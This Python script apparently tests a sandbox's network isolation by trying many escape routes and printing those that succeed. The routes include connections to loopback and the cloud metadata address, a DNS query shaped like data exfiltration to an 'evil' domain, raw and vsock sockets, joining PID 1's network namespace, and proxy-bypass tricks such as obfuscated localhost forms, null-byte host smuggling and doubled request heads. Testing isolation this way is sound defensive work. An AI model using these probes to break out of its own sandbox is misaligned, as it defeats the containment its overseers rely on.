"""Inside a sandbox: try every way out. `python inside.py SPEC.json` prints those that lead somewhere."""

from __future__ import annotations

import ctypes
import json
import os
import socket
import sys
import urllib.request
from functools import partial

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable

    Go = Callable[[], object]

with open(sys.argv[1]) as opened:
    spec = json.load(opened)
port, here, listed, model = spec["port"], spec["address"], spec["listed"], spec["model"]
proxy = os.environ["HTTPS_PROXY"].removeprefix("http://").rpartition(":")
found: list[str] = []
tried: list[str] = []


def way(name: str, go: Go) -> None:
    """Try one; whatever answers has led somewhere."""
    tried.append(name)
    try:
        if go():
            found.append(name)
    except (OSError, ValueError, UnicodeError):
        pass


def stream(family: int, address: str | tuple[str, int]) -> Go:
    def go() -> object:
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(3)
            one.connect(address)
            return True

    return go


def datagram(family: int, address: str | tuple[str, int]) -> Go:
    def go() -> object:
        with socket.socket(family, socket.SOCK_DGRAM) as one:
            one.settimeout(0.3)
            # A look-up, as one that carries data away would be.
            one.sendto(
                b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x04evil\x00\x00\x01\x00\x01", address
            )
            return one.recv(512)

    return go


def asked(head: bytes) -> Go:
    """Ask the proxy; only a 2xx or 3xx answer, or one of the server outside, counts."""

    def go() -> object:
        with socket.create_connection((proxy[0], int(proxy[2])), 3) as one:
            one.sendall(head)
            answer = one.recv(4096)
            return answer.startswith((b"HTTP/1.1 2", b"HTTP/1.1 3")) or b"OUT" in answer

    return go


def connect(target: str) -> Go:
    return asked(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())


def get(url: str, host: str = "") -> Go:
    name = f"Host: {host}\r\n" if host else ""
    return asked(f"GET {url} HTTP/1.1\r\n{name}\r\n".encode())


INET, INET6 = socket.AF_INET, socket.AF_INET6
for target in ("127.0.0.1", here, "0.0.0.0", "169.254.169.254", "10.0.0.1", "192.0.2.1", "1.1.1.1"):
    way(f"tcp {target}", stream(INET, (target, port)))
for target in ("::1", "::ffff:127.0.0.1", "2606:4700::1111", "fe80::1"):
    way(f"tcp {target}", stream(INET6, (target, port)))
for target in ("127.0.0.1", here, "1.1.1.1", "224.0.0.251", "255.255.255.255"):
    way(f"udp {target}", datagram(INET, (target, spec["udp"])))
way("udp ::1", datagram(INET6, ("::1", spec["udp"])))
for name in ("example.com", "secret.evil.test", "localhost.localdomain", listed):
    way(f"lookup {name}", partial(socket.getaddrinfo, name, 443))
way("abstract", stream(socket.AF_UNIX, "\0" + spec["abstract"]))
way("path", stream(socket.AF_UNIX, spec["path"]))
way("raw icmp", lambda: socket.socket(INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
way(
    "ping",
    lambda: socket.socket(INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\x08", ("1.1.1.1", 0)),
)
way("packet", lambda: socket.socket(17, socket.SOCK_RAW, 0))
way("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
way("bluetooth", lambda: socket.socket(31, socket.SOCK_RAW, 1))
libc = ctypes.CDLL(None, use_errno=True)
first = "/proc/1/ns/net"
way(
    "the namespace of 1",
    lambda: libc.setns(os.open(first, 0), 0) == 0 and stream(INET, ("127.0.0.1", port))(),
)
way("io_uring", lambda: libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0)
for target in (
    *(f"127.0.0.1:{port}", f"localhost:{port}", f"{here}:{port}", f"[::1]:{port}", f"0.0.0.0:{port}"),
    *(f"127.1:{port}", f"2130706433:{port}", f"0x7f000001:{port}", f"0177.0.0.1:{port}"),
    *(f"[::ffff:127.0.0.1]:{port}", "169.254.169.254:80", "1.1.1.1:443", "example.com:443"),
    *(f"{listed}:22", f"{listed}:80", f"{listed}.evil.test:443", f"evil{listed}:443"),
    *(f"{listed}@127.0.0.1:{port}", f"127.0.0.1:{port}#{listed}:443", f"127.0.0.1:{port}\0.{listed}:443"),
    *("localhost.localdomain:443", f"ip6-localhost:{port}"),
):
    way(f"CONNECT {target!r}", connect(target))
for place in (f"127.0.0.1:{port}", f"localhost:{port}", f"{here}:{port}", "169.254.169.254"):
    way(f"GET {place}", get(f"http://{place}/"))
way("GET by ftp", get(f"ftp://{here}/"))
way("GET with a listed Host", get(f"http://127.0.0.1:{port}/", listed))
way("GET / with a Host", get("/", f"127.0.0.1:{port}"))
way("two heads", asked(f"CONNECT {listed}:443 HTTP/1.1\nCONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode()))


def fetched(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=5) as answer:
        return bytes(answer.read())


way("redirect", lambda: b"OUT" in fetched(f"http://127.0.0.1:{model}/elsewhere"))
plain = urllib.request.build_opener(urllib.request.ProxyHandler({}))
way("no proxy", lambda: plain.open(f"http://{here}:{port}/", timeout=3))
reached = b"model" in fetched(f"http://127.0.0.1:{model}/")
print("WAYS " + json.dumps({"tried": len(tried), "found": found, "reached": reached}))
